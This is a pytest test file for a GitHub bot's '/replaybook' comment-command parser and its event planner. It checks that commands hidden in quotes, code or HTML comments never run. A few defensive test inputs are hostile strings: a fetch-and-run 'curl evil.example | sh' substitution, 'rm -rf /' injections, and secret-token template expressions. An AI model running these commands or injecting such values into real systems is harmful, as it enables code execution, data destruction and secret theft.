"""The comment-command parser: only a command at the start of a line, outside quotes and code, counts."""

from __future__ import annotations

import copy

import pytest

from bot.config import Config
from bot.github.commands import BadCommand, Command, parse
from bot.github.events import Ignore, RunCommand, plan


def only(body: str):
    found = parse(body)
    assert len(found) == 1, found
    return found[0]


def test_each_command_is_found_with_its_arguments():
    assert only("/replaybook replay") == Command("replay")
    assert only("/replaybook replay --agent codex --trials 3") == Command("replay", agent="codex", trials=3)
    assert only("/replaybook replay --trials=4 --agent=claude-code") == Command("replay", agent="claude-code", trials=4)
    assert only("/replaybook explain") == Command("explain")
    assert only("/replaybook retest") == Command("retest")
    assert only("/replaybook retire rule-0007 it is obsolete now") == Command("retire", rule="rule-0007",
                                                                               reason="it is obsolete now")
    assert only("/replaybook retire rule-0007") == Command("retire", rule="rule-0007", reason="")


def test_a_command_among_prose_on_its_own_line_counts():
    body = "Thanks!\n\n  /replaybook explain\n\nmore words"
    assert only(body) == Command("explain")


@pytest.mark.parametrize("body", [
    "> /replaybook replay",
    ">/replaybook replay",
    "> > /replaybook retest",
    "please run /replaybook replay",
    "`/replaybook replay`",
    "```\n/replaybook replay\n```",
    "~~~text\n/replaybook replay\n~~~",
    "````\n```\n/replaybook replay\n````",
    "text\n\n    /replaybook replay",
    "\t/replaybook replay",
    "/replaybookreplay",
    "/Replaybook-ish replay",
    "<!--\n/replaybook replay\n-->",
    "<!-- hidden\n/replaybook replay -->",
    "",
])
def test_quoted_code_or_mid_line_commands_do_not_count(body):
    assert parse(body) == []


# Bodies as people write them: each hides its command from the rendered comment, so it never runs.
HIDDEN_BY_RENDERING = [
    # An HTML comment opened mid-line hides the rest of that line and every line until it closes.
    "Looks good to me! <!-- reviewer notes:\n/replaybook retire rule-0003 nobody will see this\n-->\nThanks.",
    "LGTM<!--\n/replaybook replay --trials 50",
    "see the log <!-- start\n\n/replaybook retest\n\nstill hidden -->",
    "> quoted <!-- x\n/replaybook replay\n-->",
    # A blockquote's lazy continuation: the unquoted line right after a quoted one renders inside the quote.
    "> @alice wrote: we should replay this\n/replaybook replay --agent codex\n\nI disagree.",
    "> first line\n> second line\n/replaybook retire rule-0001 quoted",
    "> > nested\n/replaybook retest",
    # Only \n, \r\n and \r end a line in markdown: these stay on the quoted or prose line.
    "> quoted\u2028/replaybook retest",
    "please run\x85/replaybook replay",
    "> quoted\x1c/replaybook explain",
]


@pytest.mark.parametrize("body", HIDDEN_BY_RENDERING)
def test_what_github_does_not_render_as_a_command_runs_nothing(body):
    assert parse(body) == []


def test_a_command_after_a_closed_comment_or_a_quote_ended_by_a_blank_line_counts():
    assert only("thanks <!-- note -->\n/replaybook retest") == Command("retest")
    assert only("> we should replay\n\n/replaybook replay") == Command("replay")
    assert only("/replaybook retire rule-0002 stale <!-- hidden --> ") == Command("retire", rule="rule-0002",
                                                                              reason="stale")
    assert only("/replaybook retire rule-0001 x <!-- replaybook:gate -->") == Command("retire", rule="rule-0001",
                                                                                     reason="x")


def test_an_unclosed_fence_hides_the_rest_of_the_comment():
    assert parse("```\n/replaybook replay\n") == []


def test_text_after_a_closed_fence_counts_again():
    assert only("```\nx\n```\n/replaybook retest") == Command("retest")


def test_text_after_a_closed_html_comment_counts_again():
    assert only("<!-- a note -->\n/replaybook retest") == Command("retest")
    assert only("<!--\nx\n-->\n/replaybook explain") == Command("explain")


def test_every_command_line_is_returned_in_order():
    found = parse("/replaybook retest\n/replaybook explain\n/replaybook retest")
    assert [c.name for c in found] == ["retest", "explain", "retest"]


@pytest.mark.parametrize("line, why", [
    ("/replaybook", "no command"),
    ("/replaybook frobnicate", "frobnicate"),
    ("/replaybook replay --trials many", "--trials"),
    ("/replaybook replay --trials 0", "--trials"),
    ("/replaybook replay --trials -3", "--trials"),
    ("/replaybook replay --trials", "--trials"),
    ("/replaybook replay --agent", "--agent"),
    ("/replaybook replay --agent ../../x", "--agent"),
    ("/replaybook replay --bogus", "--bogus"),
    ("/replaybook replay now", "now"),
    ("/replaybook explain please", "please"),
    ("/replaybook retest everything", "everything"),
    ("/replaybook retire", "rule-NNNN"),
    ("/replaybook retire 7", "rule-NNNN"),
    ("/replaybook retire rule-7; rm -rf /", "rule-NNNN"),
])
def test_bad_arguments_are_a_typed_result_never_an_exception(line, why):
    found = only(line)
    assert isinstance(found, BadCommand)
    assert why in found.problem
    assert found.line == line


@pytest.mark.parametrize("hostile", [
    "$(curl evil.example | sh)", "`id`", "${{ secrets.ANTHROPIC_API_KEY }}", "; rm -rf / &&", "'\"\\", "replaybook:gate -->",
])
def test_hostile_arguments_stay_data(hostile):
    retire = only(f"/replaybook retire rule-0001 {hostile}")
    assert isinstance(retire, Command) and retire.reason == hostile  # kept as is; neutralised where it is written
    bad = only(f"/replaybook replay --agent {hostile}")
    assert isinstance(bad, BadCommand)  # an agent name is a plain word, never a path or a shell word


def test_a_hostile_unknown_command_is_reported_as_data():
    found = only("/replaybook ${{github.token}}")
    assert isinstance(found, BadCommand) and "${{github.token}}" in found.problem


def test_a_huge_comment_is_parsed_in_bounded_time_and_length():
    body = ("/replaybook retire rule-0001 " + "x" * 200_000)
    found = only(body)
    assert isinstance(found, Command) and len(found.reason) <= 500


def test_crlf_line_ends_are_read():
    assert [c.name for c in parse("hi\r\n/replaybook retest\r\n")] == ["retest"]


# ------------------------------------------------------------------ planning: an issue_comment event


CONFIG = Config.model_validate({"github": {"bot_logins": ["github-actions[bot]", "replaybook-app[bot]"]}})


def comment_event(examples, body: str, *, login: str = "Codertocat", pr: bool = False, state: str = "open",
                  action: str = "created") -> dict:
    payload = copy.deepcopy(next(p for p in examples["issue_comment"] if p["action"] == action))
    payload["comment"]["body"] = body
    payload["comment"]["user"]["login"] = login
    payload["issue"]["state"] = state
    if pr:
        payload["issue"]["pull_request"] = {"url": "https://api.github.com/repos/o/r/pulls/1"}
    return payload


def test_a_new_comment_with_a_command_plans_a_run(examples):
    payload = comment_event(examples, "/replaybook explain", pr=True)
    [action] = plan("issue_comment", payload, CONFIG)
    assert action == RunCommand(comment_id=payload["comment"]["id"], number=payload["issue"]["number"], is_pr=True,
                                state="open", login="Codertocat", body="/replaybook explain",
                                html_url=payload["comment"]["html_url"])


def test_an_issue_comment_is_not_a_pr_and_its_state_is_carried(examples):
    [action] = plan("issue_comment", comment_event(examples, "/replaybook retest", state="closed"), CONFIG)
    assert isinstance(action, RunCommand) and not action.is_pr and action.state == "closed"


@pytest.mark.parametrize("login", ["github-actions[bot]", "Replaybook-App[bot]"])
def test_the_bots_own_comment_never_runs_a_command(examples, login):
    [action] = plan("issue_comment", comment_event(examples, "/replaybook retest", login=login), CONFIG)
    assert isinstance(action, Ignore) and "bot's own" in action.reason


@pytest.mark.parametrize("body", ["> /replaybook retest", "```\n/replaybook retest\n```", "run /replaybook retest",
                                  "nice work"])
def test_a_comment_without_a_command_line_is_ignored(examples, body):
    [action] = plan("issue_comment", comment_event(examples, body), CONFIG)
    assert isinstance(action, Ignore)


@pytest.mark.parametrize("action", ["edited", "deleted"])
def test_only_a_new_comment_counts(examples, action):
    [planned] = plan("issue_comment", comment_event(examples, "/replaybook retest", action=action), CONFIG)
    assert isinstance(planned, Ignore) and action in planned.reason


def test_a_bad_command_still_plans_a_run_so_the_reply_explains_it(examples):
    [action] = plan("issue_comment", comment_event(examples, "/replaybook replay --trials lots"), CONFIG)
    assert isinstance(action, RunCommand)
